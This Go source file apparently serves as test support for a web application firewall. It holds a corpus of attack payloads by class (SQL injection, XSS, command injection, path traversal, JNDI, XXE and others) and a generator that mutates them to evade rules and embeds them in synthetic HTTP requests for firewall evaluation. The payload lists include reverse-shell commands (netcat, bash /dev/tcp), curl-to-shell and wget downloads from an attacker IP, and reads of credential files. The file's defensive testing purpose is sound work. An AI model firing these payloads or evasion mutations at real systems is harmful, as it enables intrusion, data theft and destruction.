// Copyright The Durward Authors.
// SPDX-License-Identifier: Apache-2.0

package waftest

import (
	"encoding/json"
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"

	"durward/waf/gate"
)

// Payloads are values that attack something, by class: the classes of the Core
// Rule Set's tags.
var Payloads = map[string][]string{
	"sqli": {
		"1' OR '1'='1", "1 OR 1=1", "' UNION SELECT username, password FROM users--", "1; DROP TABLE users", "admin'--",
		"1' AND SLEEP(5)#", "'; EXEC xp_cmdshell('dir')--", "1' ORDER BY 10--", "1/**/UNION/**/SELECT/**/NULL,NULL",
		"x' AND extractvalue(1,concat(0x7e,version()))--", "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
		"' OR pg_sleep(5)--", "1' WAITFOR DELAY '0:0:5'--", "0x31 UNION ALL SELECT @@version", "\" OR \"\"=\"", "1) OR (1=1",
		"' AND 1=CONVERT(int,(SELECT @@version))--", "' || (SELECT 1 FROM dual) || '", "SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END",
		"1 UNION SELECT LOAD_FILE('/etc/passwd')", "{\"$gt\":\"\"}", "'; return true; var a='", "1' procedure analyse()#",
	},
	"xss": {
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)", "<svg/onload=alert(1)>",
		"\"><script>alert(1)</script>", "<iframe src=\"javascript:alert(1)\">", "<body onload=alert(1)>", "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
		"<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
		"<style>@import 'javascript:alert(1)';</style>", "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", "';alert(String.fromCharCode(88))//",
		"<x onclick=alert(1)>click", "<embed src=javascript:alert(1)>", "{{constructor.constructor('alert(1)')()}}", "<marquee onstart=alert(1)>",
	},
	"rce": {
		"; cat /etc/passwd", "| id", "`whoami`", "$(curl http://198.51.100.9/x.sh | sh)", "&& ping -c 10 127.0.0.1", "; nc -e /bin/sh 198.51.100.9 4444",
		"() { :;}; echo vulnerable", "|| wget http://198.51.100.9/a -O /tmp/a", "; python3 -c 'import os; os.system(\"id\")'", "& dir c:\\windows",
		"; powershell -enc SQBFAFgA", "$(< /etc/passwd)", "; /bin/bash -i >& /dev/tcp/198.51.100.9/443 0>&1", "a;uname${IFS}-a", "; c'a't /e'tc'/pas's'wd",
		"cmd.exe /c net user", "; chmod +x /tmp/x; /tmp/x", "| base64 -d | bash", "Invoke-Expression (New-Object Net.WebClient)",
	},
	"lfi": {
		"../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd", "/proc/self/environ", "file:///etc/passwd",
		"..%2f..%2f..%2fetc%2fpasswd", "..%c0%af..%c0%afetc/passwd", "/var/www/.htaccess", ".git/config", "C:\\boot.ini", "/.env", "WEB-INF/web.xml",
	},
	"rfi":     {"http://198.51.100.9/shell.txt?", "https://10.0.0.1/evil.php", "ftp://user:pw@198.51.100.9/x.php", "php://input", "url:file:///etc/passwd"},
	"php":     {"<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "${@print(md5(1))}", "eval(base64_decode('YQ=='))", "assert($_POST[x])", "<?= `id` ?>"},
	"java":    {"${jndi:ldap://198.51.100.9/a}", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "java.lang.Runtime.getRuntime().exec('id')", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "class.module.classLoader.resources", "${${lower:j}ndi:rmi://x/a}", "T(java.lang.Runtime).getRuntime()"},
	"generic": {"__proto__", "constructor.prototype", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_FLUSHALL", "require('child_process').exec('id')", "process.mainModule.require('fs')", "{\"__proto__\":{\"admin\":true}}", "@import url(http://127.0.0.1)", "dict://localhost:11211/stat"},
	"protocol": {
		"a\r\nSet-Cookie: x=1", "%0d%0aLocation: https://example.net", "a\nHTTP/1.1 200 OK\nContent-Length: 0", "GET / HTTP/1.1\r\nHost: x",
		")(uid=*))(|(uid=*", "*)(objectClass=*", "\x00", "%00", "<!--#exec cmd=\"ls\"-->", "text/html\r\n\r\n<html>",
	},
	"fixation": {"document.cookie='PHPSESSID=1'", "<meta http-equiv=\"Set-Cookie\" content=\"sid=1\">"},
	"xxe":      {"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "<!ENTITY % d SYSTEM \"http://198.51.100.9/d.dtd\">"},
}

// Classes lists the classes of Payloads in a fixed order.
func Classes() []string {
	return []string{"sqli", "xss", "rce", "lfi", "rfi", "php", "java", "generic", "protocol", "fixation", "xxe"}
}

// Hostile makes n requests that carry payloads, the same for the same seed:
// in the query, the path, a field of the header, a cookie, a form, JSON, and in
// names of parameters, as they are and mutated. Not every one is found by every
// rule set: the corpus is for comparing verdicts.
func Hostile(seed uint64, n int) []*gate.Request {
	g := &generator{Rand: rand.New(rand.NewPCG(seed, 0xbad)), prose: prose, words: plainWords}
	out := make([]*gate.Request, n)
	for i := range out {
		class := Payloads[g.pick(Classes())]
		payload := g.mutate(class[g.IntN(len(class))])
		out[i] = g.carry(payload)
	}
	return out
}

// carry puts a payload into an ordinary request.
func (g *generator) carry(payload string) *gate.Request {
	switch g.IntN(9) {
	case 0:
		return g.base("GET", g.path()+"/"+url.PathEscape(payload))
	case 1:
		r := g.base("GET", g.path())
		r.Header.Set(g.pick([]string{"User-Agent", "Referer", "X-Forwarded-For", "Accept-Language", "X-Trace"}), oneLine(payload))
		return r
	case 2:
		r := g.base("GET", g.path())
		r.Header.Set("Cookie", "session="+g.alnum(12)+"; pref="+strings.ReplaceAll(oneLine(payload), ";", "%3b"))
		return r
	case 3:
		return g.base("GET", g.path()+"?"+url.QueryEscape(payload)+"=1&b=2")
	case 4:
		q := url.Values{g.pick(fields): {g.text()}, g.pick(fields): {payload}}
		return content(g.base("POST", g.path()), "application/x-www-form-urlencoded", []byte(q.Encode()))
	case 5, 6:
		o := g.object(0)
		o[g.pick(fields)] = g.nest(payload)
		body, err := json.Marshal(o)
		if err != nil { // of strings, numbers and maps
			panic(err)
		}
		return content(g.base("POST", g.path()), "application/json", body)
	}
	return g.base("GET", g.path()+"?"+g.pick(fields)+"="+url.QueryEscape(payload)+"&limit=10")
}

func (g *generator) nest(payload string) any {
	switch g.IntN(4) {
	case 0:
		return []any{g.text(), payload}
	case 1:
		return map[string]any{"text": map[string]any{"de": payload}}
	case 2:
		return map[string]any{payload: g.text()}
	}
	return payload
}

func oneLine(s string) string { return strings.NewReplacer("\r", "", "\n", " ", "\x00", "").Replace(s) }

// mutate changes how a payload is written, as those do who try to get past
// rules, or leaves it.
func (g *generator) mutate(s string) string {
	for range g.IntN(3) {
		switch g.IntN(8) {
		case 0:
			s = g.swapCase(s)
		case 1:
			s = strings.ReplaceAll(s, " ", g.pick([]string{"/**/", "\t", "+", "  ", "\n", "%20"}))
		case 2:
			s = url.QueryEscape(s)
		case 3:
			s = g.text() + " " + s
		case 4:
			s += g.pick([]string{" ", "--", "#", ";", "\x00", "%00", "<!--"})
		case 5:
			s = strings.ReplaceAll(s, "<", g.pick([]string{"&lt;", "\uff1c", "%3c", "\\u003c"}))
		case 6:
			if i := g.IntN(len(s) + 1); i > 0 {
				s = s[:i] + g.pick([]string{"\\", "'", "\"", "", "\u200b"}) + s[i:]
			}
		case 7:
			s = s[g.IntN(len(s)/2+1):]
		}
		if s == "" {
			return "'"
		}
	}
	return s
}

func (g *generator) swapCase(s string) string {
	b := []byte(s)
	for i, c := range b {
		if (c|0x20) >= 'a' && (c|0x20) <= 'z' && g.IntN(2) == 0 {
			b[i] = c ^ 0x20
		}
	}
	return string(b)
}

// Regression gives the requests of the Core Rule Set's own tests.
func Regression() ([]*gate.Request, error) {
	all, err := Cases()
	var out []*gate.Request
	for i := range all {
		for j := range all[i].Stages {
			if r := all[i].Stages[j].Request; r != nil {
				out = append(out, r)
			}
		}
	}
	return slices.Clip(out), err
}
